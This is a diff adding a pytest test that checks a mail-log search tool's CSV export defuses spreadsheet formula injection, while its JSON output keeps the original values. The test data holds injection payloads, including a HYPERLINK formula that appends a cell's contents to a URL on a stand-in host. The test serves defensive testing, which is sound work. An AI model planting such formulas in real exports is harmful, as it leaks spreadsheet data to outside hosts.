@@ -448,3 +448,27 @@ def test_table_is_paged_on_a_terminal(env2, tmp_path):
     rc, out = on_a_terminal(env2, ["--format", "jsonl", "--recipient",
                                    "bob@example.net"], {"PAGER": "cat > %s" % paged})
     assert '"bob@example.net"' in out and not paged.exists()
+
+
+def test_csv_formulas_defused(tmp_path_factory):
+    """Fields a spreadsheet would run (=, +, -, @, tab, CR first) get a '
+    in front in CSV; JSON keeps them as they were."""
+    conf, state, db, _ = make_log(tmp_path_factory, "csvformula")
+    subjects = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+1+2",
+                "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "a=b", "plain"]
+    for i, subj in enumerate(subjects):
+        insert_event(db, NOW - 60 + i, dict(
+            qid="F%011dF" % i, action="received", sender="=cmd@x.test",
+            recipient="formula@example.net", subject=subj))
+    db.commit()
+    db.close()
+    r = subprocess.run([GWSEARCH, "-c", str(conf), "--format", "csv",
+                        "from:=cmd@x.test"], capture_output=True)
+    assert r.returncode == 0, r.stderr
+    rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
+    assert [x["subject"] for x in rows] == [
+        "'" + s if s[0] in "=+-@\t\r" else s for s in subjects]
+    assert {x["sender"] for x in rows} == {"'=cmd@x.test"}
+    r = subprocess.run([GWSEARCH, "-c", str(conf), "--format", "jsonl",
+                        "from:=cmd@x.test"], capture_output=True, text=True)
+    assert [e["email"]["subject"] for e in jsonl(r.stdout)] == subjects
